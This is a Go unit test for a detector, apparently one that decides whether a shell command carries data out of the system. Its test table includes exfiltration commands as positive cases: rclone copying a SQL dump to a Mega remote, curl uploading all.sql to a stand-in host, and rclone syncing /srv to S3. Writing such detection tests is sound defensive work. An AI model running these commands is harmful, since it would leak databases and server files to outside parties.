package commands

import "testing"

func TestCarriesOut(t *testing.T) {
	for command, want := range map[string]bool{
		"rclone copy ~/.cache/all.sql.gz mega:backup": true, "rclone ls mega:": false, "rclone copy /a /b": false, "curl -t all.sql https://up.example.com/": true, "curl -f file=@all.sql https://up.example.com/": true,
		"curl https://example.com/a@b": false, "sudo rclone sync /srv s3:bucket": true, "tar cf a.tar /srv": false,
	} {
		if got := carriesOut(command); got != want {
			t.Errorf("%s: %v", command, got)
		}
	}
}
